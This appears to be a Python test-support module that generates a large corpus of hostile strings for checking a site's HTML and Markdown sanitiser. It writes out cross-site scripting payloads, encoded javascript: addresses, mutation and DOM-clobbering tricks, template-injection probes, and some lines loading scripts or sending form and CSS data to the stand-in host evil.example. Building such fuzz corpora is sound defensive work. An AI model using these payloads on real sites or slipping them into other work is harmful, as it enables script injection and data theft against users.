"""Thousands of strings that would come alive on a careless page, made systematically.

Every family is a product of tricks: which element, which attribute, how it is written, where it stands.
Made here, from how HTML, Markdown, addresses and templates are read; nothing is taken from another collection.
"""

import re
from collections.abc import Iterator
from itertools import product

from tests.shared.public_lists import Harm
from tests.shared.public_lists import listed

CALL = "document.title='taken'"
"""What a string that comes alive would do; a test that finds this title has found a hole."""

BARE_TAG = re.compile(r"\s*</?\w+\s*/?>\s*")
ELEMENTS = (
    "script", "img", "svg", "iframe", "object", "embed", "math", "style", "form", "input", "button", "video", "audio",
    "source", "body", "details", "marquee", "link", "meta", "base", "template", "textarea", "select", "a", "div", "p",
    "table", "td", "noscript", "title", "frameset", "isindex", "keygen", "portal", "animate", "x",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
    "onbegin", "onauxclick", "onbeforeinput", "onscrollend", "ONERROR", "oNlOaD",
)  # fmt: skip
SCHEMES = ("javascript", "vbscript", "data", "JaVaScRiPt", "livescript", "mocha", "blob", "filesystem", "view-source")
SPACES = ("", " ", "\t", "\x0b", "\x0c", "\u00a0", "\u2028", "\ufeff", "/", "%09", "&#9;", "&Tab;")
BREAKERS = ('"', "'", "`", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
            "</h1>", "</a>", "</p>", "</dd>", "*/", '\\"', "%22", "&quot;", "&#34;", "\u201d", "\uff02")  # fmt: skip
ODD_LETTERS = ("\u017f", "\u212a", "\u0131", "\u200b", "\u200d", "\u202e", "\u00ad", "\ufffd", "\ud7ff", "\U000e0001")
ODD_OPENINGS = ("<", "\uff1c", "\u2039", "&lt;", "&#60;", "&#x3c;", "&#0000060", "%3C", "%253C", "\\u003c",
                "\\x3c", "+ADw-", "\u00abscript\u00bb<", "<\u200b", "<!--><", "<![CDATA[<", "<?xml?><", "<<", "<%00",
                "</\n<")  # fmt: skip


def hostile_strings() -> tuple[str, ...]:
    """Return every string once: those made here, in the order of their families, and public lists where they are named.

    A tag that stands in our own pages too tells nothing, so that bare tags are left out of the lists.
    """
    lists = (each for each in listed(Harm.MARKUP) if not BARE_TAG.fullmatch(each))
    return tuple(dict.fromkeys((*made_strings(), *lists)))


def made_strings() -> tuple[str, ...]:
    """Return every string that is made here, once; the number is the same on every machine."""
    families = (
        _elements_with_handlers(), _elements_with_addresses(), _scripts(), _vector_graphics(), _styles(), _frames(),
        _forms(), _breakers(), _odd_openings(), _markdown_links(), _markdown_autolinks(), _markdown_blocks(),
        _templates(), _own_marks(), _mutations(), _clobbering(),
    )  # fmt: skip
    return tuple(dict.fromkeys(each for family in families for each in family))


def _elements_with_handlers() -> Iterator[str]:
    gaps = (" ", "/", "\n", "\t", "\x0c")
    for number, (element, handler) in enumerate(product(ELEMENTS, HANDLERS)):
        gap = gaps[number % len(gaps)]
        quote = ('"', "'", "")[number % 3]
        yield f"<{element}{gap}src=x{gap}{handler}={quote}{CALL}{quote}>"
        if number % 2:
            yield f"<{_jagged(element)}{gap}tabindex=1{gap}autofocus{gap}{handler} = {quote}{CALL}{quote}"


def _elements_with_addresses() -> Iterator[str]:
    places = (("a", "href"), ("form", "action"), ("iframe", "src"), ("object", "data"), ("embed", "src"),
              ("button", "formaction"), ("area", "href"), ("base", "href"), ("link", "href"),
              ("input", "src"))  # fmt: skip
    for (element, attribute), scheme, space in product(places, SCHEMES[:4], SPACES[:6]):
        yield f'<{element} {attribute}="{space}{scheme}:{CALL}">x</{element}>'
    for element, attribute in places:
        for address in _written_differently("javascript:" + CALL):
            yield f"<{element} {attribute}='{address}'>x"


def _written_differently(address: str) -> Iterator[str]:
    """Yield an address as entities and escapes that a browser reads back."""
    scheme, _, rest = address.partition(":")
    yield "".join(f"&#{ord(letter)};" for letter in scheme) + ":" + rest
    yield "".join(f"&#x{ord(letter):x};" for letter in scheme) + ":" + rest
    yield "".join(f"&#{ord(letter):07}" for letter in scheme) + ":" + rest
    yield "".join(f"%{ord(letter):02x}" for letter in scheme) + ":" + rest
    yield scheme + "&colon;" + rest
    yield scheme + "&#58" + rest
    yield scheme[:4] + "&NewLine;" + scheme[4:] + ":" + rest
    yield scheme[:4] + "\n" + scheme[4:] + ":" + rest
    yield scheme[:4] + "\t" + scheme[4:] + ":" + rest
    yield scheme + "\t:" + rest
    yield "\x01" + address
    yield "//" + address


def _scripts() -> Iterator[str]:
    bodies = (CALL, f"/*-->*/{CALL}", f"<!--\n{CALL}//-->", "top['ale'+'rt'](1)")
    openings = ("<script>", "<SCRIPT>", "<script\n>", "<script/x>", "<script type=module>", "<scr<script>ipt>",
                "<script xmlns='http://www.w3.org/1999/xhtml'>", "<script\x0c>", "<s\x00cript>",
                "<script async defer>")  # fmt: skip
    closings = ("</script>", "</SCRIPT >", "</script\n", "", "</script/x>")
    for opening, body, closing in product(openings, bodies, closings):
        yield f"{opening}{body}{closing}"
    for source in ("//evil.example/x.js", "https://evil.example/x.js", "data:,alert(1)", "\\\\evil.example\\x.js"):
        yield f"<script src={source}></script>"
        yield f'<script src="{source}"'


def _vector_graphics() -> Iterator[str]:
    inner = (f"<script>{CALL}</script>", f"<set onbegin={CALL}>", f"<animate onbegin={CALL} attributeName=x dur=1s>",
             f"<a href='javascript:{CALL}'><text>x</text></a>", f"<a xlink:href='javascript:{CALL}'><rect/></a>",
             "<use href='data:image/svg+xml,<svg/>#x'>", f"<foreignObject><img src=x onerror={CALL}></foreignObject>",
             f"<style><img src=x onerror={CALL}></style>", f"<title><img src=x onerror={CALL}></title>",
             f"<desc><p><style><!--</style><img src=x onerror={CALL}>--></desc>",
             f"<animate attributeName=href values=javascript:{CALL} />", f"<handler>{CALL}</handler>")  # fmt: skip
    shells = (("<svg>", "</svg>"), ("<svg/onload=1>", ""), ("<math>", "</math>"), ("<svg><g>", "</g></svg>"),
              ("<math><mtext>", "</mtext></math>"), ("<math><annotation-xml encoding='text/html'>", ""),
              ("<SVG xmlns:x=y>", "</SVG>"), ("<math><mi xlink:href='javascript:1'>", "</mi>"))  # fmt: skip
    for (opening, closing), content in product(shells, inner):
        yield f"{opening}{content}{closing}"


def _styles() -> Iterator[str]:
    rules = ("*{background:url(javascript:1)}", "@import'//evil.example/x.css';", "*{x:expression(alert(1))}",
             "body{-moz-binding:url(//evil.example/x)}", "input[value^=a]{background:url(//evil.example/a)}",
             "@font-face{font-family:x;src:url(//evil.example/f)}", "*{behavior:url(x.htc)}")  # fmt: skip
    for rule in rules:
        yield f"<style>{rule}</style>"
        yield f"<STYLE type=text/css>{rule}"
        yield f"<p style='{rule.strip('*{}')}'>x</p>"
        yield f"<link rel=stylesheet href='data:text/css,{rule}'>"
        yield f"</style>{rule}<style>"
    for position in ("fixed", "absolute", "sticky"):
        yield f"<a style='position:{position};inset:0' href='https://evil.example'>x</a>"


def _frames() -> Iterator[str]:
    inside = (f"<script>{CALL}</script>", f"&lt;script&gt;{CALL}&lt;/script&gt;", "<img src=x onerror=1>")
    for element, attribute in (("iframe", "srcdoc"), ("iframe", "src"), ("frame", "src"), ("object", "data"),
                               ("embed", "src"), ("applet", "code"), ("portal", "src"),
                               ("fencedframe", "src")):  # fmt: skip
        for content in inside:
            yield f'<{element} {attribute}="{content}"></{element}>'
            yield f"<{element} {attribute}='data:text/html,{content}'>"
        yield f"<{element} {attribute}=//evil.example></{element}>"
    for refresh in ("0;url=javascript:1", "0;url=//evil.example", "0;url=data:text/html,x"):
        yield f'<meta http-equiv=refresh content="{refresh}">'


def _forms() -> Iterator[str]:
    for method, action in product(("get", "post", "dialog"), ("//evil.example", "javascript:1", "", "/fi/search")):
        yield f"<form method={method} action='{action}'><input name=q autofocus><button>x</button></form>"
        yield f"</form><form id=f action='{action}'></form><input form=f type=image src=x>"
    for kind in ("submit", "image", "hidden", "password", "file"):
        yield f"<input type={kind} formaction=//evil.example value=x onfocus={CALL} autofocus>"
        yield f"<isindex type={kind} action=javascript:1>"


def _breakers() -> Iterator[str]:
    for breaker, handler in product(BREAKERS, HANDLERS[:6]):
        yield f"x{breaker} {handler}={CALL} x="
        yield f"x{breaker}><img src=x {handler}={CALL}>"
    for breaker, letter in product(BREAKERS, ODD_LETTERS):
        yield f"{letter}{breaker}{letter}<script>{CALL}</script>"
    for letter in ODD_LETTERS:
        yield f"<{letter}script>{CALL}</{letter}script>"
        yield f"<s{letter}cript>{CALL}</script>"
        yield f"<img o{letter}nerror={CALL} src=x>"
        yield f"[x](java{letter}script:{CALL})"


def _odd_openings() -> Iterator[str]:
    tails = (f"script>{CALL}</script>", f"img src=x onerror={CALL}>", f"svg/onload={CALL}>",
             f"iframe src=javascript:{CALL}>", f"a href=javascript:{CALL}>x</a>",
             "style>@import'//evil.example'</style>")  # fmt: skip
    for opening, tail in product(ODD_OPENINGS, tails):
        yield opening + tail
        yield f"x {opening}{tail}".replace(">", "&gt;") if "&" in opening else f"{opening}/{tail}"


def _markdown_links() -> Iterator[str]:
    shapes = ("[x]({})", "[x](<{}>)", '[x]({} "t")', "![x]({})", "[![x](y)]({})", "[x][1]\n\n[1]: {}",
              "[1]\n\n[1]: {} 'onclick=1'", "[x]( {} )", "[**x**]({})", "![x][i]\n\n[i]: <{}>")  # fmt: skip
    for number, (shape, scheme, space) in enumerate(product(shapes, SCHEMES, SPACES)):
        if number % 3 == 0:  # nine schemes and twelve spaces: in ten shapes every pair comes round three times
            yield shape.format(f"{space}{scheme}:{CALL}")
    for shape, address in product(shapes, _written_differently("javascript:alert(1)")):
        yield shape.format(address)
    for shape in shapes:
        yield shape.format(f'https://x.example/"onmouseover="{CALL}')
        yield shape.format(f"https://x.example/'><img src=x onerror={CALL}>")
        yield shape.format("cases/../../healthz")
        yield shape.format("//evil.example")


def _markdown_autolinks() -> Iterator[str]:
    schemes = (*SCHEMES, "file", "ftp", "mailto", "tel", "sms", "intent", "ms-word", "x-javascript", "jar", "about")
    for scheme in schemes:
        yield f"<{scheme}:{CALL}>"
        yield f"<{scheme}://x/%0a{CALL}>"
        yield f"<{scheme.upper()}:x&quot;onclick=1>"
        yield f"{scheme}:{CALL}"
        yield f"<{scheme}:text/html;base64,PHNjcmlwdD4x>"
    yield from ("<x@y.example>", '<x@y.example"onclick=1>', "<https://x.example/<script>>", "www.x.example/<script>")


def _markdown_blocks() -> Iterator[str]:
    cores = (f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"[x](javascript:{CALL})")
    shapes = ("# {}", "> {}", "- {}", "1. {}", "    {}", "```\n{}\n```", "```{}\nx\n```", "~~~ {}\nx\n~~~", "`{}`",
              "``` `` {} ``", "|a|\n|-|\n|{}|", "|{}|\n|-|\n|x|", "**{}**", "~~{}~~", "*{}*", "{}\n===", "\\{}",
              "<!-- {} -->", "<div>\n\n{}\n\n</div>", "<pre>\n{}\n</pre>", "[x]: y '{}'\n\n[x]", "x  \n{}", "&lt;{}",
              "[{}](https://x.example)", "![{}](https://x.example)", "<details open>\n{}</details>")  # fmt: skip
    for shape, core in product(shapes, cores):
        yield shape.format(core)


def _templates() -> Iterator[str]:
    words = ("7*7", "config", "''.__class__.__mro__", "request.application", f"'<script>{CALL}</script>'|safe",
             "self.__init__.__globals__", "url_for.__globals__", "constructor.constructor('alert(1)')()",
             "lipsum", "cycler", "%(x)s", "0")  # fmt: skip
    shapes = ("{{{{{}}}}}", "{{% {} %}}", "{{%- print({}) -%}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{{{{{{}}}}}}}",
              "{{# {} #}}<script>", "[[{}]]", "{{{{ {} | e }}}}", "%({})s")  # fmt: skip
    for shape, word in product(shapes, words):
        yield shape.format(word)


def _own_marks() -> Iterator[str]:
    """Yield the marks of our own Markdown, citations and blanks, bent."""
    for inner in (f"<script>{CALL}</script>", '"onclick="1', "'><b>", 'S4"><img src=x onerror=1>', "../x", "S4]("):
        yield f"[^{inner}]"
        yield f"[^S4](javascript:{inner})"
        yield f"{{{{{inner}}}}}"
        yield f"{{{{share}}}}{inner}"
        yield f"[x](cases/{inner})"
        yield f"## x {{#{inner}}}"


def _mutations() -> Iterator[str]:
    """Yield nestings that are harmless when read once and alive when written out and read again."""
    live = f"<img src=x onerror={CALL}>"
    for outer in ("noscript", "noembed", "noframes", "xmp", "plaintext", "listing", "title", "textarea", "style",
                  "iframe", "template", "select", "option", "table", "caption", "colgroup", "frameset", "svg",
                  "math"):  # fmt: skip
        yield f'<{outer}><p title="</{outer}>{live}">'
        yield f"<{outer}><!--</{outer}>{live}-->"
        yield f"<math><mtext><table><mglyph><{outer}><!--</{outer}>{live}-->"
        yield f"<svg></p><{outer}><a title='</{outer}>{live}'>"
        yield f"<form><math><mtext></form><form><mglyph><{outer}></math>{live}"
        yield f"&lt;{outer}&gt;{live}"


def _clobbering() -> Iterator[str]:
    for name in ("attributes", "tagName", "parentNode", "nodeName", "children", "innerHTML", "getAttribute", "title"):
        yield f"<form onclick={CALL}><input name={name}></form>"
        yield f"<form id={name} action=javascript:1><input name={name} id={name}></form>"
        yield f"<a id={name}></a><a id={name} name=x href=javascript:1>x</a>"


def _jagged(word: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(word))
